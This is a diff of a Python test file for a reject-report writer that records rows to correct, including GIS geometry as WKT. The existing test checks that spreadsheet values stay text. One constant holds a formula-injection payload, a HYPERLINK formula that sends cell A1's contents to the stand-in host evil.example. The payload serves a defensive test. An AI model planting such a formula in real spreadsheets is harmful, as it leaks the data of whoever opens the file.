@@ -1,13 +1,17 @@
-"""The reject report never turns a value from the clerk's file into a formula (no database)."""
+"""The reject report: never a formula from the clerk's file; the rows to correct (no database)."""
 
 from __future__ import annotations
 
 import csv
 from pathlib import Path
 
+import pandas as pd
+import shapely
 from openpyxl import load_workbook
 
-from importers.report import write_report
+from importers.mapping import header_test, resolve_columns
+from importers.reading import GEOMETRY_COLUMN, read_table
+from importers.report import ROWS_SHEET, write_report
 from importers.rules import Problem
 
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点此")'
@@ -33,3 +37,21 @@ def test_xlsx_report_keeps_values_as_text(tmp_path: Path) -> None:
     cells = [sheet.cell(row=r, column=3) for r in (2, 3, 4)]
     assert [c.value for c in cells] == [HOSTILE, "-24.2", "@SUM(A1:A9)"]
     assert [c.data_type for c in cells] == ["s", "s", "s"]
+
+
+def test_rows_to_correct_keep_a_gis_geometry_as_wkt_and_read_back(tmp_path: Path) -> None:
+    square = shapely.box(102.9, 24.1, 103.0, 24.2)
+    rows = pd.DataFrame(
+        {"code": ["53042400100"], "name": ["宁州街道"], GEOMETRY_COLUMN: [square]},
+        index=pd.Index([3], name="row"),
+        dtype=object,
+    )
+    problems = [Problem(3, "code", "53042400100", "区划代码必须是 12 位数字")]
+    path = write_report(tmp_path / "rejects.xlsx", problems, rows)
+    table = read_table(path, is_header=header_test())
+    assert table.sheet == ROWS_SHEET
+    assert table.headers == ["code", "name", "WKT", "退回原因", "原行号"]
+    assert table.frame.iloc[0]["退回原因"] == "code：区划代码必须是 12 位数字"
+    assert shapely.from_wkt(table.frame.iloc[0]["WKT"]).equals(square)
+    columns = resolve_columns(table.headers, ["code", "name", "wkt"])
+    assert columns == {"code": "code", "name": "name", "wkt": "WKT"}
